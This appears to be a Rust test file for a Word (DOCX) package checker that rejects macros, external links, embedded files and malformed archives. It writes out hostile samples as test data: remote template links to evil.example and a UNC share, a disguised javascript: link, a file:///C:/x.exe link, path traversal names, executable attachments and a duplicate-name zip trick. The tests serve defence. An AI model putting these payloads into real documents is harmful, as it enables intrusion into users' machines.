//! Macros, links and embedded files in every way they can be written.

use std::io::Write as _;

use zip::{ZipWriter, write::SimpleFileOptions};

use super::*;

const MAIN: &str = "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn zipped(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn typed(types: &str, more: &[(&str, &str)]) -> Result<Kind, Unfit> {
    let types = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types>{types}</Types>");
    look(&zipped(&[&[("[Content_Types].xml", types.as_str()), ("word/document.xml", "<x/>")], more].concat()))
}

fn related(line: &str) -> Result<Kind, Unfit> {
    let lines = format!("<Relationships xmlns=\"x\">{line}</Relationships>");
    typed(MAIN, &[("word/_rels/settings.xml.rels", &lines)])
}

#[test]
fn macros_are_known_however_they_are_written() {
    assert_eq!(typed(MAIN, &[]), Ok(Kind::Docx));
    let refs = "<!-- wordprocessingml --><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEn&#97;bled.main+xml\"/>";
    assert_eq!(typed(refs, &[]), Err(Unfit::Macro));
    let project = "<Override PartName='/word/x.bin' ContentType = 'application/vnd.ms-office.vba&#x50;roject'/>";
    assert_eq!(typed(&format!("{MAIN}{project}"), &[("word/x.bin", "vba")]), Err(Unfit::Macro));
    let padded = format!("<!-- wordprocessingml {} -->{MAIN}{project}", "x".repeat(1024 * 1024));
    assert_eq!(typed(&padded, &[("word/x.bin", "vba")]), Err(Unfit::Macro));
    let larger = format!("{MAIN}<!-- {} -->", "x".repeat(2 * 1024 * 1024));
    assert_eq!(typed(&larger, &[]), Err(Unfit::Damaged), "never cut off and taken");
    let kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    assert_eq!(related(&format!("<Relationship Id='r1' Type='{kind}' Target='x.bin'/>")), Err(Unfit::Macro));
    let comment = "<!-- wordprocessingml -->";
    assert_eq!(typed(comment, &[]), Err(Unfit::OtherPackage), "a comment is no type");
}

#[test]
fn nothing_is_fetched_from_elsewhere() {
    let template = format!("{OFFICE}/attachedTemplate");
    for line in [
        format!(
            "<Relationship Id=\"r\" Type=\"{template}\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
        ),
        format!("<Relationship Id='r' Type='{template}' Target='http://evil.example/t.dotm' TargetMode='External'/>"),
        format!("<Relationship Id=\"r\" Type=\"{template}\" Target=\"\\\\evil\\s\\t.dotm\" TargetMode=\"External\"/>"),
        format!("<Relationship Id=\"r\" Type=\"{template}\" Target=\"file://evil/s/t.dotm\" TargetMode=\"External\"/>"),
        format!(
            "<Relationship\nId=\"r\" Type=\"{template}\"\nTarget = \"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Id=\"r\" Type=\"{template}\" Target=\"&#104;ttp://evil.example/t.dotm\" TargetMode=\"&#69;xternal\"/>"
        ),
        format!(
            "<p:Relationship xmlns:p=\"x\" Id=\"r\" Type=\"{OFFICE}/image\" Target=\"http://evil.example/p.png\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Id=\"r\" Type=\"{OFFICE}/hyperlink\" Target=\"file:///C:/x.exe\" TargetMode=\"External\"/>"
        ),
        format!(
            "<Relationship Id=\"r\" Type=\"{OFFICE}/hyperlink\" Target=\"java&#9;script:alert(1)\" TargetMode=\"External\"/>"
        ),
        format!("<Relationship Id=\"r\" Type=\"{OFFICE}/image\" Target=\"//evil/p.png\"/>"),
    ] {
        assert_eq!(related(&line), Err(Unfit::Linked), "{line}");
    }
    let ole = format!(
        "<Relationship Id='r' Type='{OFFICE}/oleObject' Target='http://evil.example/a' TargetMode='External'/>"
    );
    assert_eq!(related(&ole), Err(Unfit::Embedded));
    for target in ["http://www.example.org/?a=1&amp;b=2", "HTTPS://www.example.org", "mailto:a@example.org", "#_Toc1"] {
        let line = format!("<Relationship Id='r' Type='{OFFICE}/hyperlink' Target='{target}' TargetMode='External'/>");
        assert_eq!(related(&line), Ok(Kind::Docx), "{target}");
    }
    let inside = format!("<Relationship Id='r' Type='{OFFICE}/image' Target='media/image1.png'/>");
    assert_eq!(related(&inside), Ok(Kind::Docx));
}

#[test]
fn nothing_hides_in_it() {
    for name in
        ["word/embeddings/oleObject1.bin", "word/a.scr", "word/b.vbs", "word/c.hta", "word/d.LNK", "oleObject9.bin"]
    {
        assert_eq!(typed(MAIN, &[(name, "MZ")]), Err(Unfit::Embedded), "{name}");
    }
    for name in ["../../../tmp/x", "WORD/document.xml"] {
        assert_eq!(typed(MAIN, &[(name, "x")]), Err(Unfit::Damaged), "{name}");
    }
    for name in ["xl/printerSettings/printerSettings1.bin", "word/media/image1.svg", "word/fonts/font1.odttf"] {
        assert_eq!(typed(MAIN, &[(name, "x")]), Ok(Kind::Docx), "{name}");
    }
}

#[test]
fn what_two_programs_would_read_differently_is_refused() {
    // The second of two parts of one name, made by renaming in the bytes.
    let types = format!("<Types>{MAIN}</Types>");
    let other = "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>";
    let mut bytes =
        zipped(&[("[Content_Types].xxx", other), ("[Content_Types].xml", &types), ("word/document.xml", "<x/>")]);
    while let Some(at) = bytes.windows(19).position(|w| w == b"[Content_Types].xxx") {
        bytes[at + 16..at + 19].copy_from_slice(b"xml");
    }
    assert!(look(&bytes).is_err());
    for types in [
        format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?><Types>{MAIN}</Types>"),
        format!("<!DOCTYPE x [<!ENTITY a \"b\">]><Types>{MAIN}</Types>"),
        format!("<Types>{MAIN}<Override ContentType=\"&a;\"/></Types>"),
        format!("<Types>{MAIN}<Override ContentType=\"a\" x:ContentType=\"b\"/></Types>"),
        format!("<Types>{MAIN}<Override{}/></Types>", " a=\"\"".repeat(100_000)),
    ] {
        let bytes = zipped(&[("[Content_Types].xml", &types), ("word/document.xml", "<x/>")]);
        assert_eq!(look(&bytes), Err(Unfit::Damaged), "{}", types.chars().take(80).collect::<String>());
    }
}
